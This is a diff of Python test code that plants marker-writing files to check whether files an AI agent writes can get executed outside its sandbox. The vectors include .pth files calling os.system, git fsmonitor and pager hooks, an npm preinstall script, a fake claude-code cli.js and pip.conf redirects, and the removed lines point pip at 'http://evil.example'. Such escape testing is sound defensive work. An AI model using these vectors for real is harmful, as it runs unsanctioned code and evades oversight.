@@ -25,6 +25,8 @@ MODULES = (
 #: What a planted file does if anybody starts it: it leaves a mark, with its own name on it.
 MARKS = "/workspace/group/ran-"
 PYTHON = f"open('{MARKS}' + __name__, 'w').close()\nprint('as a program')\n"
+#: It would have pip take what the agent wrote for any package.
+PIP = "[global]\nno-index = true\nfind-links = /workspace/group/planted\n"
 SHELL = f"#!/bin/sh\n: >{MARKS}sh-$(basename $0)\n"
 NODE = f"require('fs').writeFileSync('{MARKS}node', '')\n"
 
@@ -65,7 +67,7 @@ def files(folder: Path) -> Iterator[tuple[Path, str]]:
         json.dumps({"scripts": {"preinstall": f"{run}npm"}, "main": "planted.js"}),
     )
     yield folder / "node_modules" / "@anthropic-ai" / "claude-code" / "cli.js", NODE
-    yield folder / "pip.conf", "[global]\nindex-url = http://evil.example\n"
+    yield folder / "pip.conf", PIP
     git = f"""[core]
 	fsmonitor = {run}fsmonitor
 	pager = {run}pager
@@ -119,7 +121,7 @@ def _of_what_was_installed(folder: Path) -> Iterator[tuple[Path, str]]:
         yield site / f"{name}.py", PYTHON
     for each in (site, site / "pip", folder / ".python"):
         yield each / "planted.pth", f"import os; os.system('touch {MARKS}user-base')\n"
-    yield folder / ".python" / "pip.conf", "[global]\nindex-url = http://evil.example\n"
+    yield folder / ".python" / "pip.conf", PIP
     for name in ("npm", "node", "@anthropic-ai/claude-code"):
         yield folder / ".npm/lib/node_modules" / name / "index.js", NODE
     yield folder / ".npm" / "etc" / "npmrc", f"node-options=--require {folder}/planted.js\n"
